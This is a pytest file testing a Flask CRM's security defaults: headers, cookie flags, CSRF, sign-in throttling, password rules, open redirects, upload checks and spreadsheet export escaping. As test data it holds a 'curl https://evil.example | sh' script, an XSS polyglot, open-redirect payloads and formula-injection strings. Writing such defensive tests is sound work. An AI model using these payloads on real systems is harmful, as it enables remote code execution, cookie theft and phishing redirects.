"""Security defaults: headers, cookies, CSRF on every POST, no 500 on odd URLs."""

from __future__ import annotations

import logging
import re

import pytest
from sqlalchemy import select

from crm import create_app, crypto
from crm.extensions import db
from crm.models import User
from tests.common_support import sign_in as sign_in_fully
from tests.common_support import totp_code


def test_security_headers_on_pages(client):
    response = client.get("/auth/login")
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "frame-ancestors 'none'" in csp
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in response.headers


def test_hsts_over_https(client):
    response = client.get("/auth/login", base_url="https://crm.example")
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")


def test_pages_have_no_inline_script_or_external_assets(client):
    html = client.get("/auth/login").get_data(as_text=True)
    assert not re.search(r"<script(?![^>]*\bsrc=)", html)
    assert "http://" not in html and "https://" not in html


def test_session_cookie_is_httponly_and_samesite(client, make_user, login):
    login(make_user("staff"))
    cookie = client.get_cookie("session")
    assert cookie is not None and cookie.http_only and cookie.same_site == "Lax"


@pytest.fixture
def csrf_client(app):
    """A client of an app with CSRF protection on, sharing the test database."""
    guarded = create_app(
        "testing",
        SQLALCHEMY_DATABASE_URI=app.config["SQLALCHEMY_DATABASE_URI"],
        REDIS_URL=app.config["REDIS_URL"],
        WTF_CSRF_ENABLED=True,
    )
    return guarded.test_client()


def test_post_without_csrf_token_is_rejected(csrf_client, make_user):
    user = make_user("staff")
    response = csrf_client.post("/auth/login", data={"email": user.email, "password": "Test-password-1"})
    assert response.status_code == 400
    assert "formulario" in response.get_data(as_text=True)
    assert db.session.get(User, user.id).last_login_at is None


def test_post_with_csrf_token_is_accepted(csrf_client, make_user):
    user = make_user("staff")
    page = csrf_client.get("/auth/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    response = csrf_client.post(
        "/auth/login", data={"email": user.email, "password": "Test-password-1", "csrf_token": token}
    )
    assert response.status_code == 302


def test_unknown_url_gives_a_friendly_404(client, make_user, login):
    login(make_user("staff"))
    response = client.get("/no/such/page")
    assert response.status_code == 404
    assert "no existe" in response.get_data(as_text=True)


def test_anonymous_users_are_sent_to_sign_in(client):
    response = client.get("/")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/auth/login")


# --- headers on every kind of response --------------------------------------------------------------------


def directives(csp: str) -> dict[str, list[str]]:
    """Split a Content-Security-Policy into {directive: sources}."""
    parts = [part.split() for part in csp.split(";") if part.strip()]
    return {words[0]: words[1:] for words in parts}


def test_every_kind_of_response_carries_the_headers(client, make_user, login):
    login(make_user("manager"))
    responses = {
        "page": client.get("/"),
        "404": client.get("/organisations/999999"),
        "405": client.get("/auth/logout"),
        "export": client.get("/imports/export/organisations.csv"),
    }
    for kind, response in responses.items():
        policy = directives(response.headers["Content-Security-Policy"])
        assert policy["script-src"] == ["'self'"] and policy["object-src"] == ["'none'"], kind
        assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'self'"], kind
        assert "'unsafe-inline'" not in policy.get("style-src", []), kind
        assert not any("unsafe" in source for sources in policy.values() for source in sources), kind
        assert response.headers["X-Frame-Options"] == "DENY", kind
        assert response.headers["X-Content-Type-Options"] == "nosniff", kind
        assert response.headers["Referrer-Policy"] == "same-origin", kind
        assert "Strict-Transport-Security" not in response.headers, kind
    assert responses["page"].headers["Cache-Control"] == "no-store"  # signed-in pages are never cached


def test_hsts_follows_the_request_scheme(client):
    secure = client.get("/auth/login", environ_overrides={"wsgi.url_scheme": "https"})
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000"
    assert "Strict-Transport-Security" not in client.get("/auth/login").headers


# --- production: cookies only over HTTPS ------------------------------------------------------------------


@pytest.fixture
def production_client(app, monkeypatch):
    """A client of an app built with ProductionConfig (CSRF on), sharing the test database and Redis."""
    import importlib

    import config

    monkeypatch.setenv("SECRET_KEY", "production-secret-" + "x" * 30)
    monkeypatch.setenv("ENCRYPTION_KEY", crypto.keys()[0].decode())  # one database, one key
    monkeypatch.setenv("DATABASE_URL", app.config["SQLALCHEMY_DATABASE_URI"])
    monkeypatch.delenv("SESSION_COOKIE_SECURE", raising=False)
    importlib.reload(config)
    try:
        built = create_app(
            "production",
            SQLALCHEMY_DATABASE_URI=app.config["SQLALCHEMY_DATABASE_URI"],
            REDIS_URL=app.config["REDIS_URL"],
        )
    finally:
        monkeypatch.undo()
        importlib.reload(config)
    return built.test_client()


def cookie_lines(response) -> dict[str, str]:
    """Return {cookie name: its Set-Cookie line}."""
    return {line.split("=", 1)[0]: line for line in response.headers.getlist("Set-Cookie")}


def test_production_cookies_are_secure_httponly_and_samesite(production_client, make_user):
    user = make_user("staff")
    https = "https://crm.example.pe"
    page = production_client.get("/auth/login", base_url=https)
    assert page.headers["Strict-Transport-Security"].startswith("max-age=")
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page.get_data(as_text=True)).group(
        1
    )
    form = {"email": user.email, "password": "Test-password-1", "remember": "y", "csrf_token": token}
    referer = {"Referer": https + "/auth/login"}  # Flask-WTF checks it over HTTPS
    response = production_client.post("/auth/login", data=form, base_url=https, headers=referer)
    assert response.status_code == 302 and response.headers["Location"] == "/auth/two-factor"
    page = production_client.get("/auth/two-factor", base_url=https).get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    code = {"code": totp_code(user.id), "csrf_token": token}
    referer = {"Referer": https + "/auth/two-factor"}
    response = production_client.post("/auth/two-factor", data=code, base_url=https, headers=referer)
    assert response.status_code == 302
    cookies = cookie_lines(response)
    assert {"session", "remember_token"} <= set(cookies)
    for name in ("session", "remember_token"):
        flags = [flag.strip().lower() for flag in cookies[name].split(";")]
        assert "secure" in flags and "httponly" in flags and "samesite=lax" in flags, cookies[name]
    plain = production_client.get("/auth/login", base_url="http://crm.example.pe")
    assert "Strict-Transport-Security" not in plain.headers


# --- sign-in throttling: per account and per address ------------------------------------------------------


@pytest.fixture
def strict_client(app):
    """A client of an app built with a low LOGIN_RATE_LIMIT (3 per minute)."""
    from tests.conftest import FreshContextClient

    strict = create_app(
        "testing",
        SQLALCHEMY_DATABASE_URI=app.config["SQLALCHEMY_DATABASE_URI"],
        REDIS_URL=app.config["REDIS_URL"],
        LOGIN_RATE_LIMIT="3 per minute",
    )
    strict.test_client_class = FreshContextClient
    return strict.test_client()


def sign_in(client, email: str, password: str, address: str):
    """Try to sign in from a given client address."""
    data = {"email": email, "password": password}
    return client.post("/auth/login", data=data, environ_overrides={"REMOTE_ADDR": address})


def test_guessing_one_account_from_many_addresses_locks_that_account(strict_client, make_user, caplog):
    caplog.set_level(logging.INFO, logger="crm")
    target, other = make_user("staff"), make_user("staff")
    for n in range(3):
        assert sign_in(strict_client, target.email.upper(), f"guess-{n}", f"10.0.0.{n}").status_code == 200
    assert caplog.text.count(f"failed sign-in for {target.email.upper()}") == 3
    locked = sign_in(strict_client, target.email, "Test-password-1", "10.0.0.99")
    assert locked.status_code == 429
    assert "Demasiados intentos de inicio de sesión" in locked.get_data(as_text=True)
    assert db.session.get(User, target.id).last_login_at is None
    assert strict_client.get("/").status_code == 302  # still signed out
    assert sign_in(strict_client, other.email, "Test-password-1", "10.0.0.98").status_code == 302


def test_one_address_trying_many_accounts_is_locked_out(strict_client, make_user):
    user = make_user("staff")
    for n in range(3):
        sign_in(strict_client, f"nobody{n}@example.pe", "Wrong-pass-1", "10.0.1.1")
    assert sign_in(strict_client, user.email, "Test-password-1", "10.0.1.1").status_code == 429
    assert db.session.get(User, user.id).last_login_at is None
    assert sign_in(strict_client, user.email, "Test-password-1", "10.0.1.2").status_code == 302


def test_successful_sign_ins_from_one_office_address_are_not_throttled(strict_client, make_user):
    for user in [make_user("staff") for _ in range(4)]:  # one more than the limit, all behind one address
        assert sign_in(strict_client, user.email, "Test-password-1", "10.0.2.1").status_code == 302
        strict_client.post("/auth/logout")
    for n in range(3):
        sign_in(strict_client, f"nobody{n}@example.pe", "Wrong-pass-1", "10.0.2.1")
    assert sign_in(strict_client, "someone@example.pe", "Wrong-pass-1", "10.0.2.1").status_code == 429


# --- password policy on every form that sets a password ---------------------------------------------------

REFUSAL = {True: "Use al menos 10 caracteres.", False: "Combine letras con dígitos o símbolos."}
WEAK = ["Short-1", "onlyletterslong", "123456789012", "!!!!!!!!!!!!", "1234567890-+", "            "]


@pytest.mark.parametrize("weak", WEAK)
def test_weak_passwords_are_refused_everywhere(client, make_user, login, weak):
    admin = login(make_user("admin"))
    other = make_user("staff")
    new = {"email": "nuevo@pmu.pe", "name": "Nuevo", "role": "staff", "locale": "es"}
    assert client.post("/users/new", data={**new, "password": weak, "confirm": weak}).status_code == 400
    assert db.session.scalar(select(User.id).where(User.email == "nuevo@pmu.pe")) is None
    reset = client.post(f"/users/{other.id}/password", data={"password": weak, "confirm": weak})
    assert reset.status_code == 400
    own = {"name": "A", "locale": "es", "current_password": "Test-password-1", "new_password": weak}
    changed = client.post("/auth/preferences", data={**own, "confirm": weak})
    assert changed.status_code == 200 and REFUSAL[weak == "Short-1"] in changed.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(User, other.id).check_password("Test-password-1")
    assert db.session.get(User, admin.id).check_password("Test-password-1")


# --- open redirects: every `next` lands on this site ------------------------------------------------------

OFF_SITE = [
    "https:evil.example",
    " //evil.example",
    "/\t/evil.example",
    "\\\\evil.example",
    "///evil.example",
    "/\\/evil.example",
    "http://127.0.0.1@evil.example",
    "data:text/html,<script>alert(1)</script>",
]


def lands_on_site(location: str) -> bool:
    """Tell whether a browser would stay on this site (it drops tabs and newlines, reads \\ as /)."""
    browser_view = re.sub(r"[\t\r\n]", "", location).replace("\\", "/").strip()
    return browser_view.startswith("/") and not browser_view.startswith("//")


@pytest.mark.parametrize("target", OFF_SITE)
def test_next_never_leaves_the_site(client, make_user, make_org, target):
    from crm import clock
    from crm.models import Engagement, FollowUp, Programme

    user = make_user("staff")
    signed = sign_in_fully(client, user, query_string={"next": target})
    assert signed.status_code == 302 and lands_on_site(signed.headers["Location"])
    org = make_org()
    task = FollowUp(organisation_id=org.id, assignee_id=user.id, due_on=clock.today(), description="Llamar")
    programme = db.session.scalars(select(Programme)).first()
    engagement = Engagement(
        organisation_id=org.id, programme_id=programme.id, stage="contacted", stage_since=clock.today()
    )
    db.session.add_all([task, engagement])
    db.session.commit()
    done = client.post(f"/interactions/follow-ups/{task.id}/done", data={"next": target})
    assert done.status_code == 302 and lands_on_site(done.headers["Location"])
    move = client.get(f"/pipeline/engagements/{engagement.id}/move", query_string={"next": target})
    assert "evil.example" not in move.get_data(as_text=True)


# --- uploads: decided by content, served so that a browser never runs them --------------------------------


def test_a_script_named_pdf_is_refused_and_a_polyglot_is_served_inert(app, client, make_user, make_org, login,
                                                                       tmp_path, monkeypatch):  # fmt: skip
    import io

    from crm import clock
    from crm.models import Document, Letter

    monkeypatch.setitem(app.config, "UPLOAD_DIR", str(tmp_path))
    login(make_user("staff"))
    org = make_org("Fundición Documentos SAC")
    form = {"kind": "interest", "status": "received", "received_on": clock.today().isoformat()}
    script = io.BytesIO(b"#!/bin/sh\ncurl https://evil.example | sh\n")
    refused = client.post(
        f"/letters/new?organisation_id={org.id}", data={**form, "document": (script, "carta.pdf")}
    )
    assert refused.status_code == 400 and "Solo se aceptan" in refused.get_data(as_text=True)
    assert db.session.scalar(select(Document.id)) is None and db.session.scalar(select(Letter.id)) is None
    assert list(tmp_path.iterdir()) == []
    polyglot = io.BytesIO(b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n")
    data = {**form, "document": (polyglot, "carta.html")}
    assert client.post(f"/letters/new?organisation_id={org.id}", data=data).status_code == 302
    letter_id = db.session.scalar(select(Letter.id))
    download = client.get(f"/letters/{letter_id}/document")
    assert download.mimetype == "application/pdf"
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert "carta.html.pdf" in download.headers["Content-Disposition"]
    assert "sandbox" in download.headers["Content-Security-Policy"]
    assert download.headers["X-Content-Type-Options"] == "nosniff"


# --- exports: text that a spreadsheet would run is neutralised --------------------------------------------

FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_formula_starts_are_neutralised_in_the_csv_and_xlsx_exports(client, make_user, login, make_org):
    import csv
    import io

    from openpyxl import load_workbook

    login(make_user("manager"))
    for n, formula in enumerate(FORMULAS):  # forms strip leading tabs; imports or old data may not have
        make_org(f"Empresa {n}", trade_name=formula, notes=formula)
    text = client.get("/imports/export/organisations.csv?sort=name").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    trade, notes = rows[0].index("Nombre comercial"), rows[0].index("Notas")
    assert [(row[trade], row[notes]) for row in rows[1:]] == [("'" + f, "'" + f) for f in FORMULAS]
    sheet = load_workbook(io.BytesIO(client.get("/imports/export/organisations.xlsx?sort=name").data)).active
    for column in (trade + 1, notes + 1):
        cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
        assert all(cell.data_type == "s" for cell in cells)
        assert [cell.value.replace("\n", "\r") for cell in cells] == ["'" + f for f in FORMULAS]
